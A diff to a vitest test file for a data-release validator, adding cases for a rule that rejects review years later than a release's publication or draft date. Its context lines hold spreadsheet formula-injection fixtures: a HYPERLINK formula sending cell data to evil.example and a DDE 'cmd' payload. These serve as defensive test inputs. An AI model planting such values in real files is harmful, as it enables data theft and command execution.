@@ -1,6 +1,6 @@
 import { mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { formatText } from '../src/domain/validation/format-report.ts';
 import { isNormalizedName } from '../src/domain/validation/rules/normalized-name.ts';
 import { validate } from '../src/domain/validation/validate.ts';
@@ -99,6 +99,9 @@ const cases: [string, string, string, (f: MiniFiles) => void][] = [
   ['current-status', 'releases/index.json', '/current', (f) => { f.manifest.releases[0].status = 'draft'; }],
   ['release-missing', 'releases/index.json', '/releases/1/id', (f) => { f.manifest.releases.push({ id: '2026.1', title: 'Chưa có', status: 'draft' }); }],
   ['year-outside-vintage', `${R}/observations.json`, '/observations/25/year', (f) => { f.observations.observations[25].year = 2024; f.observations.observations[26].year = 2024; f.observations.observations[27].year = 2020; f.observations.observations[27].vintage = '2025-07'; f.observations.observations[24].year = 2020; f.observations.observations[24].vintage = '2020-01'; }],
+  // the mini release is published on 10/02/2026: no review after 2026 can be in it
+  ['year-in-future', `${R}/observations.json`, '/observations/27/year', (f) => { f.observations.observations[27].year = 2027; }],
+  ['year-in-future', `${R}/observations.json`, '/observations/0/year', (f) => { f.observations.observations[0].year = 2062; }],
   ['formula-like-text', `${R}/units.json`, '/vintages/0/units/3/name', (f) => { f.units.vintages[0].units[3].name = '=HYPERLINK("http://evil.example/?x="&A1,"x")'; }],
   ['formula-like-text', `${R}/observations.json`, '/sources/0/title', (f) => { f.observations.sources[0].title = "=cmd|' /C calc'!A0"; }],
   ['formula-like-text', `${R}/recognitions.json`, '/recognitions/0/recipient/name', (f) => { f.recognitions.recognitions[0].recipient.name = '@SUM(1+1)'; }],
@@ -188,6 +191,66 @@ describe('a claim rests on the reviews approved before the decision', () => {
         'Khen thưởng cho một đơn vị cũ (xã Hoa Thám (mã 10001), xã Quý Hòa (mã 10002), thị trấn Đình Lập (mã 10003)) thì ghi người nhận là đơn vị đó, "vintage": "2020-01"; ' +
         'khen thưởng cho xã Hoa Thám hiện nay thì bỏ "commune-zone" khỏi "claims"',
     );
+  });
+});
+
+/**
+ * A year's review is done in its last months and approved in December or January: no
+ * release can hold a later year's figures than the year of its date. A published release's
+ * date is its publishedAt, so it validates the same on any day; a draft's is today in Vietnam.
+ */
+describe('a review year not yet come (year-in-future)', () => {
+  afterEach(() => { vi.useRealTimers(); });
+  const OBSERVATIONS = `${R}/observations.json`;
+  /** The province's review of `year`, on today's boundaries: record 28 of the mini release. */
+  const review = (year: number) => (f: MiniFiles) => { f.observations.observations.push({ vintage: '2025-07', unit: '20', year, households: 5200, poor: 150, nearPoor: 300, source: 's-minh-hoa' }); };
+  /** The mini release as a draft beside a published one the site shows meanwhile (its files are not read). */
+  const asDraft = (f: MiniFiles) => {
+    f.manifest.current = '2024.1';
+    f.manifest.releases.unshift({ id: '2024.1', title: 'Cũ', publishedAt: '2025-01-10', status: 'published', sha256: {} });
+    f.manifest.releases[1].status = 'draft';
+    f.manifest.releases[1].publishedAt = null;
+  };
+  const observationErrors = (mutate: (f: MiniFiles) => void, options: { draftDate?: string } = {}) => {
+    const { root, dataRoot } = writeMini(mutate);
+    return validate({ dataRoot, releaseId: MINI_RELEASE, contentRoot: path.join(root, 'content'), ...options }).report.errors.filter((e) => e.file === OBSERVATIONS);
+  };
+  const at = (isoTime: string) => { vi.useFakeTimers({ toFake: ['Date'] }); vi.setSystemTime(new Date(isoTime)); };
+
+  it('in a published release, is judged at its publication date, the same on any day', () => {
+    const reports = ['2026-03-01T03:00:00Z', '2031-06-01T03:00:00Z'].map((now) => {
+      at(now);
+      return { later: observationErrors(review(2027), { draftDate: now.slice(0, 10) }), same: observationErrors(review(2026)) };
+    });
+    expect(reports[1]).toEqual(reports[0]);
+    expect(reports[0]!.same).toEqual([]);
+    expect(reports[0]!.later).toEqual([{
+      file: OBSERVATIONS, path: '/observations/28/year', rule: 'year-in-future', value: 2027,
+      message:
+        'năm 2027 chưa tới vào ngày công bố phiên bản (10/02/2026): kết quả rà soát của một năm chỉ có từ cuối năm đó (rà soát vào các tháng cuối năm, phê duyệt vào tháng 12 hoặc tháng 1 năm sau). ' +
+        'Phiên bản đã công bố không sửa được: sửa năm trong một bản nháp mới rồi công bố bản nháp đó',
+    }]);
+  });
+
+  it('in a draft, is judged at the day given (publishing gives its date): this year\'s review is let in, a later one refused', () => {
+    const draft = (f: MiniFiles) => { asDraft(f); review(2027)(f); };
+    expect(observationErrors(draft, { draftDate: '2027-01-15' })).toEqual([]);
+    const errors = observationErrors(draft, { draftDate: '2026-12-05' });
+    expect(errors.map(({ path, rule, value }) => ({ path, rule, value }))).toEqual([{ path: '/observations/28/year', rule: 'year-in-future', value: 2027 }]);
+    expect(errors[0]!.message).toMatch(/^năm 2027 chưa tới vào ngày 05\/12\/2026 \(bản nháp được xét theo ngày hôm nay ở Việt Nam, hoặc theo ngày công bố khi công bố\): .*Sửa lại năm trong bản nháp: có thể là gõ nhầm \(2062 thay cho 2026\)$/);
+  });
+
+  it('in a draft, is judged by default at today in Vietnam (UTC+7), not at the UTC day', () => {
+    const draft = (f: MiniFiles) => { asDraft(f); review(2027)(f); };
+    at('2026-12-31T16:30:00Z'); // 23:30 on 31/12/2026 in Lạng Sơn
+    expect(observationErrors(draft).map((e) => e.rule)).toEqual(['year-in-future']);
+    at('2026-12-31T17:30:00Z'); // 00:30 on 01/01/2027 in Lạng Sơn, still 2026 in UTC
+    expect(observationErrors(draft)).toEqual([]);
+  });
+
+  it('is said instead of year-outside-vintage: a typo under the old boundaries is not a year of the new ones', () => {
+    const errors = observationErrors((f) => { f.observations.observations[0].year = 2062; });
+    expect(errors.filter((e) => e.path === '/observations/0/year').map((e) => e.rule)).toEqual(['year-in-future']);
   });
 });
 
